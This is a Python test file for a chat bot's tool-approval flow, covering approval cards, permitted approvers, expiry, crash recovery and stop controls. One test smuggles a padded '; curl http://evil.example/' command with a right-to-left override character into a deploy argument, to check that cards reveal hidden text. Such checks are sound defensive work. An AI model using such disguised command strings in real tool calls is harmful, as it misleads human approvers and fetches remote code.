"""Approvals through the core: cards, who may decide, exactly-once decisions, expiry, restarts,
steering and stop — with a scripted model, a recording surface and the real SQLite store."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import sqlite3
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from bot.api.inbound import Author, Inbound, ThreadKey
from bot.approvals.models import ApprovalStatus, Choice
from bot.approvals.rules import arguments_hash
from bot.config import Settings
from bot.core import Core
from bot.infra.clock import ManualClock
from bot.llm.messages import AssistantMessage, SystemMessage, ToolResult, UserMessage
from bot.llm.model import Model, ModelRequest, TextPiece
from bot.sessions.model import RunState
from bot.storage.sqlite.store import SqliteStore
from bot.tools import ToolContext, ToolRegistry, tool
from bot.tools.builtin import builtin_tools
from tests.fakes.scripted_model import ScriptedModel, Step, call, step, text
from tests.fakes.surface import RecordingSurface, drive, run_until

KEY = ThreadKey("slack:T1:C1:100.1")
ALICE = Author(id="slack:U1", display_name="Alice")
BOB = Author(id="slack:U2", display_name="Bob", roles=frozenset({"slack:group:ops"}))
CAROL = Author(id="slack:U3", display_name="Carol")


class World:
    def __init__(self, tmp_path: Path, **settings: Any) -> None:
        self.clock = ManualClock(start=1_000_000.0)
        self.model = ScriptedModel([])
        self.settings = Settings(data_dir=tmp_path, **settings)
        self.surface = RecordingSurface(self.clock, thread_key=KEY)
        self.ran: list[str] = []
        ran = self.ran

        @tool(side_effects=True)
        async def deploy(ctx: ToolContext, target: str) -> str:
            """Deploy the service.

            Args:
                target: Where to.
            """
            ran.append(target)
            return f"deployed to {target}"

        @tool(side_effects=True, approval="ask", executes=True)
        async def shell(ctx: ToolContext, command: str) -> str:
            """Run a command.

            Args:
                command: The command line.
            """
            ran.append(command)
            return "exit 0"

        self.tools = [*builtin_tools(), deploy, shell]
        self.core = self._core()
        self._n = 0

    def _core(self) -> Core:
        store = SqliteStore(self.settings.database_path)
        core = Core(self.settings, store, self.model, ToolRegistry(self.tools), self.clock)
        core.register_surfaces(
            "slack:", lambda key: self.surface, lambda key: key.rsplit(":", 1)[0]
        )
        return core

    async def restart(self) -> None:
        await self.core.aclose()
        self.core = self._core()
        await self.core.start()

    async def say(self, words: str, author: Author = ALICE) -> None:
        self._n += 1
        inbound = Inbound(KEY, author, words, f"ev{self._n}")
        await drive(self.clock, self.core.handle(inbound, self.surface))

    async def click(
        self, label: str, who: Author, card: int = -1, tool: str = "deploy"
    ) -> str | None:
        clicked = self.cards(tool)[card]
        button = next(b for b in clicked.buttons if b.label == label)
        note = await drive(
            self.clock, self.core.on_action(button.action_id, who, self.surface, clicked.id)
        )
        await drive(self.clock, self.core.wait_idle())
        return note

    async def click_id(
        self, card: int = -1, label: str = "Approve", who: Author = ALICE
    ) -> str | None:
        """Click a button the card had when it was posted (it may be gone since)."""
        posted = self.surface.messages[self.cards()[card].id].first_buttons
        button = next(b for b in posted if b.label == label)
        return await drive(self.clock, self.core.on_action(button.action_id, who, self.surface))

    def cards(self, tool: str = "deploy") -> list[Any]:
        return [m for m in self.surface.live() if f"`{tool}`" in m.text and "▸ `" not in m.text]

    async def session(self) -> Any:
        return await self.core.store.load_session(KEY, self.clock.now())


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[World]:
    w = World(tmp_path)
    await w.core.start()
    yield w
    await w.core.aclose()


def use_model(world: World, model: Model) -> None:
    """From now on the engine calls ``model`` (as if ``Core.create`` had been given it)."""
    engine = world.core.engine
    engine._deps = dataclasses.replace(engine._deps, model=model)


def deploy_then(answer: str, target: str = "prod") -> list[Step]:
    return [step(call("deploy", {"target": target}, say="Deploying now.")), text(answer)]


async def test_a_call_that_needs_approval_pauses_the_run_with_a_card(world: World) -> None:
    world.model.steps = deploy_then("done")
    await world.say("ship it")
    [card] = world.cards()
    assert "Approval needed" in card.text and '"target": "prod"' in card.text
    assert [b.label for b in card.buttons] == [
        "Approve",
        "Deny",
        "Always allow this exact call",
        "Always allow for Alice here",
    ]
    assert world.ran == [] and len(world.model.requests) == 1
    session = await world.session()
    assert session.state is RunState.AWAITING_APPROVAL
    assert world.surface.texts()[0] == "Deploying now."  # the reply landed above the card


async def test_approve_runs_the_tool_and_the_run_goes_on(world: World) -> None:
    world.model.steps = deploy_then("Deployed!")
    await world.say("ship it")
    assert await world.click("Approve", ALICE) == "Approved."
    assert world.ran == ["prod"]
    [card] = world.cards()
    assert "Approved** by Alice" in card.text and card.buttons == ()
    assert world.surface.texts()[-1] == "Deployed!"
    session = await world.session()
    result = next(m for m in session.messages if isinstance(m, ToolResult))
    assert result.content == "deployed to prod" and not result.is_error
    assert session.state is RunState.IDLE


async def test_a_card_whose_id_was_not_stored_is_updated_from_the_click(world: World) -> None:
    world.model.steps = deploy_then("Deployed!")
    await world.say("ship it")
    async with world.core.store.transaction() as db:  # killed between posting it and storing its id
        await db.execute("UPDATE approvals SET card_id = NULL")
    await world.restart()
    assert await world.click("Approve", ALICE) == "Approved."
    [card] = world.cards()
    assert "Approved** by Alice" in card.text and card.buttons == ()
    assert world.ran == ["prod"] and world.surface.texts()[-1] == "Deployed!"


async def test_deny_tells_the_model_who_denied(world: World) -> None:
    world.model.steps = deploy_then("OK, not deploying.")
    await world.say("ship it")
    assert await world.click("Deny", ALICE) == "Denied."
    assert world.ran == []
    result = world.model.requests[-1].messages[-1]
    assert isinstance(result, ToolResult) and result.content.startswith("denied by Alice")
    assert "Denied** by Alice" in world.cards()[0].text


async def test_only_the_requester_may_decide_by_default(world: World) -> None:
    world.model.steps = deploy_then("done")
    await world.say("ship it")
    note = await world.click("Approve", BOB)
    assert note is not None and "isn't yours to decide" in note
    assert world.ran == [] and (await world.session()).state is RunState.AWAITING_APPROVAL
    assert world.cards()[0].buttons  # still pending


@pytest.mark.parametrize(
    ("approvers", "allowed", "refused"),
    [
        ({"users": ["slack:U3"], "requester": False}, CAROL, ALICE),
        ({"roles": ["slack:group:ops"], "requester": False}, BOB, CAROL),
        ({"anyone": True}, CAROL, None),
    ],
)
async def test_approvers_are_configurable_per_tool(
    tmp_path: Path, approvers: dict[str, Any], allowed: Author, refused: Author | None
) -> None:
    world = World(tmp_path, tools={"deploy": {"approvers": approvers}})
    await world.core.start()
    try:
        world.model.steps = deploy_then("done")
        await world.say("ship it")
        if refused is not None:
            assert "isn't yours" in (await world.click("Approve", refused) or "")
        assert await world.click("Approve", allowed) == "Approved."
        assert world.ran == ["prod"]
    finally:
        await world.core.aclose()


async def test_per_channel_configuration_overrides(tmp_path: Path) -> None:
    world = World(tmp_path, channels={"slack:T1:C1": {"tools": {"deploy": {"approval": "never"}}}})
    await world.core.start()
    try:
        world.model.steps = deploy_then("done")
        await world.say("ship it")
        assert world.ran == ["prod"] and world.cards() == []
    finally:
        await world.core.aclose()


async def test_a_channel_can_ask_before_a_tool_without_side_effects(tmp_path: Path) -> None:
    world = World(
        tmp_path, channels={"slack:T1:C1": {"tools": {"todo_write": {"approval": "always"}}}}
    )
    await world.core.start()
    try:
        todos = {"todos": [{"content": "plan", "status": "pending"}]}
        world.model.steps = [step(call("todo_write", todos)), text("planned")]
        await world.say("make a plan")
        assert len(world.cards("todo_write")) == 1
        assert (await world.session()).todos == ()
        assert await world.click("Approve", ALICE, tool="todo_write") == "Approved."
        session = await world.session()
        assert [t.content for t in session.todos] == ["plan"]
        assert session.messages[-1].text == "planned"
    finally:
        await world.core.aclose()


async def test_a_second_click_and_a_forged_id_change_nothing(world: World) -> None:
    world.model.steps = deploy_then("done")
    await world.say("ship it")
    card = world.cards()[0]
    approve = next(b for b in card.buttons if b.label == "Approve").action_id
    deny = next(b for b in card.buttons if b.label == "Deny").action_id
    first, second = await asyncio.gather(
        world.core.on_action(approve, ALICE, world.surface),
        world.core.on_action(deny, ALICE, world.surface),
    )
    await drive(world.clock, world.core.wait_idle())
    assert sorted([first or "", second or ""])[0] in {"Approved.", "Denied."}
    assert "already" in (first or "") + (second or "")
    again = await world.core.on_action(approve, ALICE, world.surface)
    assert again is not None and "already" in again
    assert "unknown" in (
        await world.core.on_action("approve:forged-id", ALICE, world.surface) or ""
    )
    assert len(world.ran) <= 1 and len(world.model.requests) == 2


async def test_an_unanswered_request_expires_and_the_model_is_told(world: World) -> None:
    world.model.steps = deploy_then("It expired, so I did nothing.")
    await world.say("ship it")
    await world.clock.advance(world.settings.approval_ttl_s + 1)
    assert await world.core.scheduler.run_due() >= 1
    await drive(world.clock, world.core.wait_idle())
    assert "Expired" in world.cards()[0].text and world.cards()[0].buttons == ()
    result = world.model.requests[-1].messages[-1]
    assert isinstance(result, ToolResult) and result.content.startswith("expired")
    assert world.ran == []
    request = next(iter((await world.core.store.approvals_for(KEY, [result.call_id])).values()))
    assert request.status is ApprovalStatus.EXPIRED
    assert "expired" in (await world.core.decide(request.id, ALICE, Choice.APPROVE, world.surface))


async def test_a_restart_between_card_and_click_loses_nothing(world: World) -> None:
    world.model.steps = deploy_then("Deployed after the restart.")
    await world.say("ship it")
    await world.restart()
    assert await world.click("Approve", ALICE) == "Approved."
    assert world.ran == ["prod"]
    assert world.surface.texts()[-1] == "Deployed after the restart."
    assert (await world.session()).state is RunState.IDLE


async def test_several_calls_in_one_batch_each_wait_for_their_decision(world: World) -> None:
    world.model.steps = [
        step(
            call("deploy", {"target": "eu"}, index=0, provider_id="a"),
            call("todo_write", {"todos": [{"content": "check"}]}, index=1, provider_id="b"),
            call("deploy", {"target": "us"}, index=2, provider_id="c"),
        ),
        text("both handled"),
    ]
    await world.say("ship both")
    assert len(world.cards()) == 2
    assert await world.click("Approve", ALICE, card=1) == "Approved."
    assert world.ran == [] and len(world.model.requests) == 1  # the first still waits
    assert await world.click("Deny", ALICE, card=0) == "Denied."
    assert world.ran == ["us"]
    session = await world.session()
    results = {m.content.split(":")[0] for m in session.messages if isinstance(m, ToolResult)}
    assert {"denied by Alice", "deployed to us"} <= results
    assert session.todos[0].content == "check"  # the call held behind the first ran too
    # the answer shows; the plan's panel may stand below it or above (a reply already showing
    # "Working…" when the panel was posted is edited into the answer in its place)
    shown = [t for t in world.surface.texts() if not t.startswith("**Plan**")]
    assert shown[-1] == "both handled"


async def test_always_allow_here_stops_asking_this_person_in_this_channel(world: World) -> None:
    world.model.steps = [*deploy_then("first"), *deploy_then("second", "staging")]
    await world.say("ship it")
    assert await world.click("Always allow for Alice here", ALICE) == "Approved."
    await world.say("and staging")
    assert world.ran == ["prod", "staging"] and len(world.cards()) == 1
    # Bob's request in the same channel is not covered: it gets its card
    world.model.steps = deploy_then("third", "dev")
    await world.say("dev too", author=BOB)
    assert world.ran == ["prod", "staging"] and len(world.cards()) == 2
    [rule] = await world.core.store.allow_rules("slack:")
    assert rule.covers == {ALICE.id} and rule.created_by == ALICE.id and rule.tool == "deploy"
    events = [(e.event, e.actor_id) for e in await world.core.store.audit_trail()]
    assert events == [
        ("requested", ALICE.id),
        ("approved", ALICE.id),
        ("rule created", ALICE.id),
        ("allowed by rule", ALICE.id),
        ("requested", BOB.id),
    ]


async def test_always_allow_this_exact_call_covers_only_the_same_arguments(world: World) -> None:
    world.model.steps = [*deploy_then("first"), *deploy_then("again"), *deploy_then("no", "dev")]
    await world.say("ship it")
    [card] = world.cards()
    assert "“Always allow this exact call”: `deploy` with exactly these arguments" in card.text
    assert await world.click("Always allow this exact call", ALICE) == "Approved."
    [rule] = await world.core.store.allow_rules("slack:")
    assert rule.exact and rule.tool == "deploy#" + arguments_hash('{"target": "prod"}')
    await world.say("ship it again")  # the same arguments: no card, the call shown first
    assert world.ran == ["prod", "prod"] and len(world.cards()) == 1
    notice = next(m.text for m in world.surface.live() if "runs without asking" in m.text)
    assert "Alice's “Always allow this exact call”" in notice and '"target": "prod"' in notice
    await world.say("now dev")  # other arguments: asked again
    assert world.ran == ["prod", "prod"] and len(world.cards()) == 2


async def test_a_forged_always_click_makes_no_rule_and_commands_are_not_offered_one(
    world: World,
) -> None:
    world.model.steps = [step(call("shell", {"command": "true"})), text("ran")]
    await world.say("run it")
    card = world.cards("shell")[0]
    assert [b.label for b in card.buttons] == ["Approve", "Deny"]
    approval_id = actions_of(card)["Approve"].approval_id
    assert await world.core.decide(approval_id, ALICE, Choice.ALWAYS, world.surface) == "Approved."
    await drive(world.clock, world.core.wait_idle())
    assert await world.core.store.allow_rules() == [] and world.ran == ["true"]


async def test_a_message_while_waiting_is_kept_for_after_the_decision(world: World) -> None:
    world.model.steps = deploy_then("done")
    await world.say("ship it")
    await world.say("also, say hi to Bob", BOB)
    assert "once the approval above is decided" in world.surface.visible_text()
    assert len(world.model.requests) == 1
    await world.click("Approve", ALICE)
    sent = [m for m in world.model.requests[-1].messages if not isinstance(m, SystemMessage)]
    assert isinstance(sent[-1], UserMessage) and sent[-1].text == "also, say hi to Bob"
    assert isinstance(sent[-2], ToolResult)


async def test_steering_a_running_turn_and_stopping_it(world: World) -> None:
    started = asyncio.Event()
    release = asyncio.Event()

    class SlowModel(ScriptedModel):
        async def stream(self, request: ModelRequest) -> AsyncIterator[Any]:  # type: ignore[override]
            self.requests.append(request)
            yield TextPiece("Thinking about it")
            started.set()
            await release.wait()
            yield TextPiece(" ... never shown")

    use_model(world, SlowModel([]))
    task = asyncio.create_task(
        world.core.handle(Inbound(KEY, ALICE, "long job", "e1"), world.surface)
    )
    await asyncio.wait_for(started.wait(), 5)
    await world.core.handle(Inbound(KEY, BOB, "stop please", "e2"), world.surface)
    session = world.core.supervisor.active[KEY].session
    assert [m.text for m in session.inbox] == ["stop please"]
    use_model(world, world.model)  # the run after the Stop answers the message that waited
    world.model.steps = [text("stopped, as Bob asked")]
    assert await world.core.stop(KEY, BOB) == "stopping"
    await run_until(world.clock, task.done)
    await task
    stored = await world.session()
    partial = next(m for m in stored.messages if isinstance(m, AssistantMessage))
    assert partial.stopped and partial.text == "Thinking about it"
    assert "Stopped by Bob" in world.surface.visible_text()
    assert world.surface.texts()[-1] == "stopped, as Bob asked"
    texts = [m.text for m in world.model.requests[-1].messages if isinstance(m, UserMessage)]
    assert texts[-2:] == ["long job", "stop please"]
    assert await world.core.stop(KEY, BOB) == "nothing"
    assert stored.inbox == []


async def test_the_stop_button_on_the_running_reply_stops_it(world: World) -> None:
    started = asyncio.Event()

    class HangingModel(ScriptedModel):
        async def stream(self, request: ModelRequest) -> AsyncIterator[Any]:  # type: ignore[override]
            yield TextPiece("Working on a long answer")
            started.set()
            await asyncio.Event().wait()
            yield TextPiece("never")

    use_model(world, HangingModel([]))
    task = asyncio.create_task(world.core.handle(Inbound(KEY, ALICE, "go", "s1"), world.surface))
    await asyncio.wait_for(started.wait(), 5)
    await run_until(
        world.clock, lambda: bool(world.surface.live()) and bool(world.surface.live()[0].buttons)
    )
    [reply] = world.surface.live()
    [stop] = reply.buttons
    assert stop.label == "Stop"
    assert await world.core.on_action(stop.action_id, BOB, world.surface) is None
    await run_until(world.clock, task.done)
    await task
    [reply] = world.surface.live()
    assert reply.buttons == () and reply.text.startswith("Working on a long answer")
    assert "Stopped by Bob" in reply.text
    assert (
        await world.core.on_action(stop.action_id, BOB, world.surface)
        == "That run has already ended."
    )
    assert (await world.session()).state is RunState.IDLE


async def test_a_call_answering_a_steered_message_is_that_persons_to_approve(world: World) -> None:
    started, release = asyncio.Event(), asyncio.Event()

    class GatedModel(ScriptedModel):
        async def stream(self, request: ModelRequest) -> AsyncIterator[Any]:  # type: ignore[override]
            if not self.requests:
                started.set()
                await release.wait()
            async for piece in super().stream(request):
                yield piece

    todos = {"todos": [{"content": "look", "status": "in_progress"}]}
    use_model(
        world,
        GatedModel([step(call("todo_write", todos)), *deploy_then("Deployed, Bob.")], max_calls=5),
    )
    task = asyncio.create_task(
        world.core.handle(Inbound(KEY, ALICE, "look around", "e1"), world.surface)
    )
    await asyncio.wait_for(started.wait(), 5)
    await world.core.handle(Inbound(KEY, BOB, "and deploy it", "e2"), world.surface)
    release.set()
    await run_until(world.clock, task.done)
    await task
    [card] = world.cards()
    assert "Asked by Bob" in card.text
    assert "isn't yours" in (await world.click("Approve", ALICE) or "")
    assert world.ran == []
    await world.click("Approve", BOB)
    assert world.ran == ["prod"]


async def test_the_answer_to_a_message_steered_into_a_run_goes_below_that_message(
    world: World,
) -> None:
    started, release = asyncio.Event(), asyncio.Event()
    todos = {"todos": [{"content": "look", "status": "in_progress"}]}

    class HeldModel(ScriptedModel):
        async def stream(self, request: ModelRequest) -> AsyncIterator[Any]:  # type: ignore[override]
            if self.requests:
                async for piece in super().stream(request):
                    yield piece
                return
            self.requests.append(request)
            yield TextPiece("Looking around.")
            started.set()
            async with asyncio.timeout(5):
                await release.wait()
            for piece in step(call("todo_write", todos)):
                yield piece

    model = HeldModel([text("Hi Bob: all good here.")], max_calls=2)
    use_model(world, model)
    task = asyncio.create_task(
        world.core.handle(Inbound(KEY, ALICE, "look around", "e1"), world.surface)
    )
    await asyncio.wait_for(started.wait(), 5)
    await run_until(world.clock, lambda: "Looking around." in world.surface.visible_text())
    await world.core.handle(
        Inbound(KEY, BOB, "say hi too", "e2"), world.surface
    )  # below that reply
    release.set()
    await run_until(world.clock, task.done)
    await task
    replies = [m for m in world.surface.live() if "Looking around." in m.text or "Hi Bob" in m.text]
    assert [m.text for m in replies] == [
        "Looking around.",
        "Hi Bob: all good here.",
    ]  # two, in order
    assert all(m.buttons == () for m in replies)
    asked = [m.text for m in model.requests[-1].messages if isinstance(m, UserMessage)]
    assert asked[-2:] == ["look around", "say hi too"]


async def test_calls_with_invalid_or_over_limit_arguments_never_get_a_card(world: World) -> None:
    world.model.steps = [
        step(call("deploy", {"target": 42}, index=0), call("deploy", '{"target": "pr', index=1)),
        text("I'll fix my call."),
    ]
    await world.say("ship it")
    assert world.cards() == []
    results = [m for m in (await world.session()).messages if isinstance(m, ToolResult)]
    assert len(results) == 2 and all(
        r.is_error and "invalid arguments" in r.content for r in results
    )
    assert world.ran == []


async def test_the_card_shows_a_long_call_in_full_and_invisible_characters_escaped(
    world: World,
) -> None:
    target = "ls -la" + " " * 3_000 + "; curl http://evil.example/\u202egnp.exe"
    world.model.steps = deploy_then("ok", target=target)
    await world.say("ship it")
    posted = [m for m in world.surface.live() if m.id != world.surface.live()[0].id]
    card = world.cards()[-1]
    assert card.buttons and all(not m.buttons for m in posted if m.id != card.id)
    shown = "".join(m.text for m in posted)
    assert "\u202e" not in shown and "\\u202e" in shown
    assert "curl http://evil.example/" in shown and shown.count(" ") >= 3_000
    assert all(len(m.text) <= world.surface.limits.max_chars for m in posted)


async def test_a_reset_after_an_approval_says_on_the_card_that_nothing_ran(world: World) -> None:
    world.model.steps = deploy_then("never said")
    await world.say("ship it")
    card = world.cards()[0]
    approval_id = actions_of(card)["Approve"].approval_id
    outcome = await world.core.approvals.decide(
        approval_id, ALICE, Choice.APPROVE
    )  # the click's record
    assert outcome.changed
    await drive(world.clock, world.core.reset(KEY, world.surface))
    await drive(world.clock, world.core.decisions.resume(KEY, world.surface))
    assert world.ran == []
    assert "nothing was run" in world.cards()[0].text


async def test_a_reset_while_waiting_expires_the_card(world: World) -> None:
    world.model.steps = deploy_then("never said")
    await world.say("ship it")
    await drive(world.clock, world.core.reset(KEY, world.surface))
    text_now = world.cards()[0].text
    assert "Expired" in text_now and "reset" in text_now and world.cards()[0].buttons == ()
    assert "expired" in (await world.click_id(card=0) or "")


def actions_of(card: Any) -> dict[str, Any]:
    from bot.api import actions

    return {b.label: actions.parse(b.action_id) for b in card.buttons}


async def test_a_stop_button_its_run_left_behind_goes_when_clicked(world: World) -> None:
    from bot.api import actions
    from bot.api.surface import Button

    stop = Button(actions.encode(actions.StopRun("ended-long-ago")), "Stop", "danger")
    left = await world.surface.post("an answer cut off by a crash", (stop,))
    note = await drive(world.clock, world.core.on_action(stop.action_id, BOB, world.surface, left))
    assert note == "That run has already ended."
    assert world.surface.messages[left].buttons == ()
    assert world.surface.messages[left].text == "an answer cut off by a crash"


async def test_the_card_of_an_approved_call_shows_what_it_did(world: World) -> None:
    world.model.steps = [step(call("shell", {"command": "ls"})), text("listed")]
    await world.say("list it")
    await world.click("Approve", ALICE, tool="shell")
    [card] = world.cards("shell")
    assert "Approved" in card.text and "▶ Ran: exit 0" in card.text and card.buttons == ()


def test_what_a_call_did_in_a_few_words() -> None:
    from bot.engine.activity import preview, summarise

    command = "a\nb\nc\nd\n[exit code 2]"
    assert summarise(command, is_error=False) == "exit code 2, 4 lines of output"
    assert preview(command) == "a\nb\nc"
    assert summarise("(no output)\n[exit code 0]", is_error=False) == "exit code 0"
    assert summarise("error: denied by Bob: the call was not run.", is_error=True).startswith(
        "denied by Bob"
    )
    assert summarise("x" * 500, is_error=False).endswith("…")
    assert summarise("", is_error=False) == "no output"


async def test_the_pause_is_stored_before_its_card_shows(world: World) -> None:
    """A restart right after a card shows finds the run paused: a click made before it (or
    after it) resumes the run; its approved call is never taken for one cut off mid-run."""
    world.model.steps = deploy_then("Deployed.")
    seen: list[RunState] = []
    post = world.surface.post

    async def post_and_look(text: str, buttons: Any = ()) -> str:
        if any(b.label == "Approve" for b in buttons):
            seen.append((await world.core.store.load_session(KEY, world.clock.now())).state)
        return await post(text, buttons)

    world.surface.post = post_and_look  # type: ignore[method-assign]
    await world.say("ship it")
    assert seen == [RunState.AWAITING_APPROVAL]


async def test_a_crash_between_the_card_and_storing_the_pause_keeps_the_request_open(
    world: World,
) -> None:
    world.model.steps = deploy_then("Deployed after the restart.")
    await world.say("ship it")
    session = await world.session()
    session.state = RunState.RUNNING  # as if killed before the run stored its pause
    await world.core.store.save_state(session)
    await world.restart()
    await drive(world.clock, world.core.recover())
    await drive(world.clock, world.core.wait_idle())
    assert (await world.session()).state is RunState.AWAITING_APPROVAL
    assert "Approval needed" in world.cards()[0].text and world.cards()[0].buttons
    await world.click("Approve", ALICE)
    assert world.ran == ["prod"] and world.surface.texts()[-1] == "Deployed after the restart."


async def test_a_card_a_crash_kept_from_showing_is_posted_after_the_restart(world: World) -> None:
    world.model.steps = deploy_then("Deployed after the restart.")
    await world.say("ship it")
    card = world.cards()[0]
    await world.core.aclose()  # as if killed after storing the request, before posting its card
    del world.surface.messages[card.id]
    with contextlib.closing(sqlite3.connect(world.settings.database_path)) as db, db:
        assert db.execute("UPDATE approvals SET card_id = NULL").rowcount == 1
    world.core = world._core()
    await world.core.start()
    await drive(world.clock, world.core.recover())
    await drive(world.clock, world.core.wait_idle())
    shown = world.cards()
    assert len(shown) == 1 and shown[0].id != card.id and shown[0].buttons
    assert await world.click("Approve", ALICE) == "Approved."
    assert world.ran == ["prod"] and world.surface.texts()[-1] == "Deployed after the restart."
    assert world.cards()[0].buttons == ()


async def test_a_decision_whose_run_a_restart_cut_off_before_it_resumed_goes_on(
    world: World,
) -> None:
    world.model.steps = deploy_then("Deployed after all.")
    await world.say("ship it")
    approval = actions_of(world.cards()[0])["Approve"]
    outcome = await world.core.approvals.decide(approval.approval_id, ALICE, Choice.APPROVE)
    assert outcome.changed and world.ran == []  # recorded; then the process died before resuming
    await world.restart()
    await drive(world.clock, world.core.recover())
    await drive(world.clock, world.core.wait_idle())
    assert world.ran == ["prod"] and world.surface.texts()[-1] == "Deployed after all."


async def test_a_call_that_ran_without_a_card_shows_what_it_did_in_the_reply(
    tmp_path: Path,
) -> None:
    """One line per call (the tool, its outcome) and its first lines of output, in the reply;
    the rest of the output stays with the model. A call with a card shows it on the card."""
    world = World(tmp_path, tools={"shell": {"approval": "never"}, "deploy": {"approval": "never"}})
    await world.core.start()
    try:
        world.model.steps = [
            step(call("shell", {"command": "ls"}, say="Looking.")),
            step(call("deploy", {"target": "prod"})),
            text("All done."),
        ]
        await world.say("look and ship")
        [reply] = [m.text for m in world.surface.live()]
        assert (
            reply == "Looking.\n\n▸ `shell` · exit 0\n\n▸ `deploy` · deployed to prod\n\nAll done."
        )
        assert world.ran == ["ls", "prod"] and world.cards() == []
    finally:
        await world.core.aclose()


def test_an_activity_line_shows_the_first_lines_of_a_long_output() -> None:
    from bot.engine.activity import preview, summarise
    from bot.engine.events import ToolFinished
    from bot.present.approval_card import ran_line

    output = "\n".join(f"line {i}" for i in range(40)) + "\n[exit code 0]"
    done = ToolFinished(
        "c1", "run_command", False, summarise(output, is_error=False), preview(output), True
    )
    shown = ran_line(done)
    assert shown.startswith(
        "▸ `run_command` · exit code 0, 40 lines of output\n```\nline 0\nline 1\n"
    )
    assert "line 39" not in shown and shown.endswith("\n```")
